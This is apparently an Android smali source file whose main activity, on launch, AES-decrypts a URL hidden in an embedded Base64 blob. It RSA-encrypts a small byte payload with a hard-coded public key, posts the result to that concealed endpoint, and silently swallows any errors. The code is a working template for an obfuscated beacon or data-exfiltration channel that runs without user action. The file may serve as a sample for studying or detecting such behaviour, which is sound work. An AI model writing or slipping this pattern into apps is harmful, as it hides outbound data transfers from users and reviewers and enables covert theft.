# SPDX-License-Identifier: GPL-3.0-or-later
.class public Lt/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 7
    move-object/from16 v4, p0
    invoke-direct {v4}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method public onCreate(Landroid/os/Bundle;)V
    .registers 18
    move-object/from16 v4, p0
    move-object/from16 v5, p1
    :l0
    const-string v8, "AAECAwQFBgcICQoLDA0OD2RlZmdoaWprbG1ub3BxcnNjmDtS0zs2Y6rBnb1d7Z/t/0xPJgXalnywbEod5nGb2A=="
    const/4 v9, 0x0
    invoke-static {v8, v9}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v8
    move-object v6, v8
    const-string v8, "AES/CBC/PKCS5Padding"
    invoke-static {v8}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v8
    move-object v7, v8
    const/4 v9, 0x2
    new-instance v10, Ljavax/crypto/spec/SecretKeySpec;
    const/16 v13, 0x10
    const/16 v14, 0x10
    const-string v15, "AES"
    invoke-direct {v10, v6, v13, v14, v15}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BIILjava/lang/String;)V
    new-instance v11, Ljavax/crypto/spec/IvParameterSpec;
    const/4 v14, 0x0
    const/16 v15, 0x10
    invoke-direct {v11, v6, v14, v15}, Ljavax/crypto/spec/IvParameterSpec;-><init>([BII)V
    invoke-virtual {v7, v9, v10, v11}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;Ljava/security/spec/AlgorithmParameterSpec;)V
    new-instance v8, Ljava/lang/String;
    const/16 v12, 0x20
    array-length v13, v6
    const/16 v14, 0x20
    sub-int v13, v13, v14
    invoke-virtual {v7, v6, v12, v13}, Ljavax/crypto/Cipher;->doFinal([BII)[B
    move-result-object v10
    invoke-direct {v8, v10}, Ljava/lang/String;-><init>([B)V
    const-string v9, "a"
    invoke-virtual {v9}, Ljava/lang/String;->getBytes()[B
    move-result-object v9
    invoke-static {v9}, Lt/S;->seal([B)[B
    move-result-object v9
    invoke-static {v8, v9}, Lt/S;->post(Ljava/lang/String;[B)V
    :l73
    goto/32 :l77
    :l76
    move-exception v8
    move-object v6, v8
    :l77
    return-void
    .catch Ljava/lang/Exception; {:l0 .. :l73} :l76
.end method

.class public Lt/S;
.super Ljava/lang/Object;

.method public constructor <init>()V
    .registers 7
    move-object/from16 v4, p0
    invoke-direct {v4}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public static seal([B)[B
    .registers 14
    move-object/from16 v4, p0
    const-string v6, "RSA/ECB/PKCS1Padding"
    invoke-static {v6}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v6
    move-object v5, v6
    const/4 v7, 0x1
    const-string v8, "RSA"
    invoke-static {v8}, Ljava/security/KeyFactory;->getInstance(Ljava/lang/String;)Ljava/security/KeyFactory;
    move-result-object v8
    new-instance v9, Ljava/security/spec/X509EncodedKeySpec;
    const-string v11, "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDUN00pIJw1+cabbz9NMxsDsB/PXe+JXWd5YWrmBpMXk93CZtTj7PZrfOaIibt4OQg9uf+GAQuxTN4Eec9gFYHWg9Q2gu3QMDTqJaH1yvTVfmCLUIbhTg9RGEVIpi9aFLsUrFiFRuBDZzaC4WGlE20DFdYR7kwdKwNRKqO4G/dYKwIDAQAB"
    const/4 v12, 0x0
    invoke-static {v11, v12}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v11
    invoke-direct {v9, v11}, Ljava/security/spec/X509EncodedKeySpec;-><init>([B)V
    invoke-virtual {v8, v9}, Ljava/security/KeyFactory;->generatePublic(Ljava/security/spec/KeySpec;)Ljava/security/PublicKey;
    move-result-object v8
    invoke-virtual {v5, v7, v8}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    invoke-virtual {v5, v4}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v6
    return-object v6
.end method

.method public static post(Ljava/lang/String;[B)V
    .registers 12
    move-object/from16 v4, p0
    move-object/from16 v5, p1
    new-instance v7, Ljava/net/URL;
    invoke-direct {v7, v4}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v7}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v7
    move-object v6, v7
    invoke-virtual {v6}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v7
    invoke-virtual {v7, v5}, Ljava/io/OutputStream;->write([B)V
    return-void
.end method
